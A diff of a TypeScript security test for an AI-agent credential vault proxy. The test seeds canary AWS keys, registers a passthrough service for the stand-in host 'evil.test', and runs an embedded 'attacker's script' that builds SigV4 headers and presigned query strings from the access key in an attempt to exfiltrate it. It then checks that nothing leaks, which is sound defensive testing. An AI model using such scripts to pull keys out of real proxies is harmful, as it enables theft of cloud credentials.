@@ -16,7 +16,7 @@ import { cleanEnv, recordingCli, type TempHome } from "../support/binary.ts";
 import { type FakeAws, startFakeAws } from "../support/fake-aws.ts";
 import { spawnLive } from "../support/process.ts";
 import { agentHome, fileScene } from "../support/scene.ts";
-import { type Server, startServer } from "../support/server.ts";
+import { startServer } from "../support/server.ts";
 
 const AKID = `AKIA${randomBytes(8).toString("hex").toUpperCase()}`;
 const SECRET = `canarySecret${randomBytes(14).toString("base64url")}`;
@@ -28,7 +28,6 @@ const HOSTS = [S3, "evil.test"];
 
 let H: TempHome;
 let F: FakeAws;
-let S: Server;
 let ENV: Record<string, string>;
 
 /** Every form of a value the guard knows: raw, base64, hex (case folded). */
@@ -50,17 +49,37 @@ beforeAll(async () => {
   cleanups.push(() => F.close());
   ENV = { AGENT_VAULT_CONNECT_TO: HOSTS.map((h) => `${h}:443:127.0.0.1:${F.upstream.port}`).join(","), AGENT_VAULT_UPSTREAM_CA: F.upstream.caFile };
   H = await agentHome(scene);
-  const { ok } = recordingCli(() => H, () => ENV, outputs);
+  const { ok } = recordingCli(
+    () => H,
+    () => ENV,
+    outputs,
+  );
   await ok(["vault", "credential", "set", "AWS_ACCESS_KEY_ID=-"], AKID);
   await ok(["vault", "credential", "set", "AWS_SECRET_ACCESS_KEY=-"], SECRET);
   await ok(["vault", "credential", "set", "AWS_SESSION_TOKEN=-"], TOKEN);
-  await ok(["vault", "service", "add", "--name", "s3", "--host", "*.s3.eu-west-1.amazonaws.com", "--auth-type", "aws-sigv4", "--access-key-id-key", "AWS_ACCESS_KEY_ID", "--secret-key", "AWS_SECRET_ACCESS_KEY", "--session-token-key", "AWS_SESSION_TOKEN"]);
+  await ok([
+    "vault",
+    "service",
+    "add",
+    "--name",
+    "s3",
+    "--host",
+    "*.s3.eu-west-1.amazonaws.com",
+    "--auth-type",
+    "aws-sigv4",
+    "--access-key-id-key",
+    "AWS_ACCESS_KEY_ID",
+    "--secret-key",
+    "AWS_SECRET_ACCESS_KEY",
+    "--session-token-key",
+    "AWS_SESSION_TOKEN",
+  ]);
   await ok(["vault", "service", "add", "--name", "evil", "--host", "evil.test", "--auth-type", "passthrough"]);
-  S = await startServer(H, ENV, cleanups);
+  await startServer(H, ENV, cleanups);
 }, 60_000);
 
 /** The attacker's script, run as `agent-vault run -- sh -c SCRIPT` by the agent user. */
-const SCRIPT = String.raw`
+const SCRIPT = `
 ID="$AWS_ACCESS_KEY_ID"; DAY=$(date -u +%Y%m%d); NOW=$(date -u +%Y%m%dT%H%M%SZ)
 AUTH="AWS4-HMAC-SHA256 Credential=$ID/$DAY/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=$(printf '0%.0s' $(seq 64))"
 Q="X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=$ID%2F$DAY%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=$NOW&X-Amz-Expires=604800&X-Amz-SignedHeaders=host&X-Amz-Signature=00"
@@ -81,7 +100,7 @@ echo DONE
 
 describe("an agent cannot get the AWS keys, or a signature, out of the proxy's signing", () => {
   test("its own host, reflections, an error naming the key, placeholders written into S3: zero bytes of a key, no signature back", async () => {
-    const live = spawnLive(H.argv(["run", "--no-sandbox", "--", "sh", "-c", SCRIPT]), cleanEnv({ ...H.env, ...ENV, S3 }), "ignore");
+    const live = spawnLive(H.argv(["run", "--no-sandbox", "--", "sh", "-c", SCRIPT]), cleanEnv({ ...H.env, ...ENV }), "ignore");
     cleanups.push(() => void (live.proc.exitCode === null && live.proc.kill("SIGKILL")));
     const code = await live.proc.exited;
     outputs.push(live.stdout, live.stderr);
